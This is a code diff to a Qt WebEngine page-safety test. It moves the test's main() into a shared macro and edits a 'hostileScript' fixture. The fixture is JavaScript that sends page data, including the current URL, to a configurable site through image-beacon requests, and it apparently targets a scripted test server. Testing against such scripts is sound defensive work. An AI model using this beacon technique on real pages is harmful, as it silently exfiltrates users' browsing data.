@@ -9,6 +9,7 @@
 #include "shell/web_engine_browser.h"
 #include "shell/web_profile.h"
 #include "temp_folder.h"
+#include "web_engine_test_main.h"
 #include "window_fixture.h"
 
 #include <QApplication>
@@ -17,7 +18,6 @@
 #include <QWebEngineView>
 #include <QtTest>
 
-#include <unistd.h>
 
 using namespace kinolark;
 using Reply = ScriptedServer::Reply;
@@ -34,8 +34,10 @@ QByteArray hostileScript(const QString &site, const QStringList &targets)
     return QString(R"JS(
 (function () {
   var SITE = '%1';
+  var sent = [];
   function report(kind, data) {
     var img = new Image();
+    sent.push(img); // kept, so it is not collected before its request goes out
     img.src = SITE + '/report?kind=' + kind + '&data=' + encodeURIComponent(String(data).slice(0, 300));
   }
   report('alive', location.href);
@@ -208,16 +210,6 @@ private:
     QWebEngineProfile *m_profile = nullptr;
 };
 
-int main(int argc, char *argv[])
-{
-    if (geteuid() == 0)
-        qputenv("QTWEBENGINE_DISABLE_SANDBOX", "1");
-    if (!qEnvironmentVariableIsSet("QTWEBENGINE_CHROMIUM_FLAGS"))
-        qputenv("QTWEBENGINE_CHROMIUM_FLAGS", "--disable-gpu");
-    QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
-    QApplication app(argc, argv);
-    tst_PageSafety test;
-    return QTest::qExec(&test, argc, argv);
-}
+KINOLARK_WEBENGINE_TEST_MAIN(tst_PageSafety)
 
 #include "tst_page_safety.moc"
